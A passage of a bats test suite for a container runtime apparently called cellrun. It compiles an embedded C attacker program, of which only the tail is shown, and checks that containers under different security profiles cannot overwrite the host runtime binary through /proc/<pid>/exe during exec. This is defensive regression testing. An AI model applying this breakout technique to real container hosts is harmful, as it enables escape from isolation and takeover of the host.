          return 0;
        }
      if (d)
        closedir (d);
    }
  printf ("NOT-GRABBED denied=%d\nATTACK-DONE\n", denied);
  return 0;
}
CEOF
}

attack_binary () {
  local profile=$1 id=$2 g=() i
  [ "$profile" = none ] || g=(--profile "$profile")
  private_rootfs
  attacker_src > "$T/attacker.c"
  "${CC:-cc}" -static -O1 -o "$BUNDLE/rootfs/attacker" "$T/attacker.c" 2>/dev/null || skip "no static C compiler"
  cp "$BUILDDIR/cellrun" "$T/cellrun-copy" 2>/dev/null || cp "$CELLRUN" "$T/cellrun-copy"
  local before after
  before=$(sha256sum < "$T/cellrun-copy")
  cfg_args /attacker 20
  local orig=$CELLRUN
  CELLRUN=$T/cellrun-copy
  timeout -k 2 30 "$CELLRUN" --root "$ROOT" "${g[@]}" create --bundle "$BUNDLE" --pid-file "$T/$id.pid" "$id" \
    > "$T/$id.out" 2> "$T/$id.err" < /dev/null || { cat "$T/$id.err"; return 1; }
  cr start "$id"
  for i in $(seq 50); do grep -qx READY "$T/$id.out" && break; sleep 0.1; done
  grep -qx READY "$T/$id.out" || { echo "attacker not ready"; return 1; }
  for i in $(seq 100); do
    grep -q '^GRABBED\|^ATTACK-DONE' "$T/$id.out" && break
    cr exec "$id" true || true
  done
  wait_status "$id" stopped 250 || true
  echo "execs: $i"
  cat "$T/$id.out"
  after=$(sha256sum < "$T/cellrun-copy")
  CELLRUN=$orig # the copy may be ruined: clean up with the real binary
  cr delete -f "$id" > /dev/null 2>&1 || true
  [ "$before" = "$after" ] || { echo "the runtime binary on the host was modified"; return 1; }
  grep -qx ATTACK-DONE "$T/$id.out" || { echo "the attack did not finish"; return 1; }
  grep -qx WROTE "$T/$id.out" && { echo "a write to the runtime binary succeeded"; return 1; }
  ATTACK_OUT=$(cat "$T/$id.out")
}

@test "/proc/<pid>/exe: a container with every capability cannot rewrite the runtime binary during exec (no profile)" {
  attack_binary none "$ID"
  # with CAP_SYS_PTRACE it does reach the runtime's process: the attempt is real
  grep -q '^GRABBED' <<< "$ATTACK_OUT" || fail "the attacker never got hold of the runtime: the test proves nothing"
}

@test "/proc/<pid>/exe: a strict container cannot rewrite the runtime binary during exec" {
  attack_binary strict "$ID"
  grep -q '^GRABBED\|^OPEN-DENIED\|denied=[1-9]' <<< "$ATTACK_OUT" || fail "the attacker never saw the runtime"
}

@test "/proc/<pid>/exe: a balanced container cannot rewrite the runtime binary during exec" {
  attack_binary balanced "$ID"
  grep -q '^GRABBED\|^OPEN-DENIED\|denied=[1-9]' <<< "$ATTACK_OUT" || fail "the attacker never saw the runtime"
}
